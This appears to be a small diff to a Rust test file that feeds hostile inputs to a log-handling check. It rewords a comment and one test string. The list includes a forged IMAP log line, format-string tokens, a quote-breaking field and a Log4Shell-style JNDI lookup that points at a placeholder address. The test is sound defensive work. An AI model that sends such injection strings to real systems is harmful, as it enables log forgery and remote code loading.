@@ -4,7 +4,7 @@ use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 
 pub(crate) const KEY: &str = "marker-key";
 
-/// What must not be found wherever it stands.
+/// The text that must not be found anywhere.
 pub(crate) const FORGED: &str =
     "protocol=imap client=192.0.2.1 host=- answer=refused cause=wrong-password";
 
@@ -95,7 +95,7 @@ pub(crate) fn hostile() -> Vec<Attempt> {
         "client=192.0.2.1",
         "::1",
         "\" peer=192.0.2.1 ms=",
-        "closed a connection from 192.0.2.1, which may not ask",
+        "closed a connection from 192.0.2.1, which is not allowed",
         "%s%n{}<HOST><F-ID>",
         "${jndi:ldap://192.0.2.1/x}",
         "",
